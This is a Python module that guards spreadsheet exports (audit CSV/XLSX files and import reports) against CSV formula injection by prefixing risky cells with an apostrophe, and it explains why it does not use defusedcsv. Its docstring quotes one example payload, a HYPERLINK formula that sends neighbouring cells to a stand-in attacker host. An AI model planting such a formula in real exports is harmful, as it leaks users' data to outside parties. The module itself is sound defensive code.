"""Text that a spreadsheet must show, never run (CSV/formula injection, OWASP).

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
(also after leading spaces, tabs or line breaks, and a cell that starts with a tab or carriage
return) as a formula: ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` in an audit reason would
send the neighbouring cells away when clicked. Every export that a spreadsheet may open (audit
CSV/XLSX, the access package's CSV files, the consent import's rejected-rows report) passes its
text through :func:`formula_safe` (CSV files through :func:`csv_writer` / :func:`csv_dict_writer`),
which puts an apostrophe in front of such text — the usual defence (as in ``defusedcsv``):
spreadsheets show the text as it is. Signed numbers and phone numbers (``-5``, ``+1``,
``+81 3-1234-5678``) stay as they are: digits and signs alone cannot call a function.

Why not ``defusedcsv`` (3.0.0)? It checks only the first character, so ``"\t=1+1"`` or
``" =HYPERLINK(…)"`` (a formula after leading whitespace, which spreadsheets still run) pass
unchanged; it rewrites ``|`` to a backslash-escaped ``|`` inside the text and escapes ``+81…`` phone numbers; and it
covers CSV only, while the XLSX exporter needs the same decision (:func:`formula_risky`) for its
quote-prefixed string cells. A guard test (``tests/core/test_spreadsheet_exports.py``) fails for
any module that writes CSV or XLSX without this module.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

# Characters that make (or, after leading whitespace, may make) a cell a formula.
_RISKY_FIRST = frozenset("=+-@\t\r\n ")
_WHITESPACE = " \t\r\n"
_SIGNED_NUMBER = re.compile(r"[+-][\d\s().\-+]*")


def formula_risky(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula."""
    if not text or text[0] not in _RISKY_FIRST:
        return False
    if text[0] in "\t\r":
        return True
    rest = text.lstrip(_WHITESPACE)
    if not rest:
        return False
    first = rest[0]
    if first in "=@":
        return True
    return first in "+-" and not _SIGNED_NUMBER.fullmatch(rest)


def formula_safe(text: str) -> str:
    """``text`` with an apostrophe in front when a spreadsheet could read it as a formula."""
    return "'" + text if formula_risky(text) else text


def formula_safe_value(value: Any) -> Any:
    """A CSV cell value: text through :func:`formula_safe`, anything else unchanged."""
    return formula_safe(value) if isinstance(value, str) else value


class _FormulaSafeWriter:
    """A ``csv.writer`` whose every text cell goes through :func:`formula_safe`."""

    def __init__(self, writer) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([formula_safe_value(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)

    def __getattr__(self, name: str):
        return getattr(self._writer, name)


def csv_writer(handle, **fmtparams) -> _FormulaSafeWriter:
    """``csv.writer(handle, **fmtparams)`` that writes formula text as text."""
    return _FormulaSafeWriter(csv.writer(handle, **fmtparams))


def csv_dict_writer(handle, fieldnames: Iterable[str], **kwargs) -> csv.DictWriter:
    """``csv.DictWriter`` that writes formula text (header included) as text."""
    writer = csv.DictWriter(handle, fieldnames=list(fieldnames), **kwargs)
    writer.writer = _FormulaSafeWriter(writer.writer)
    return writer
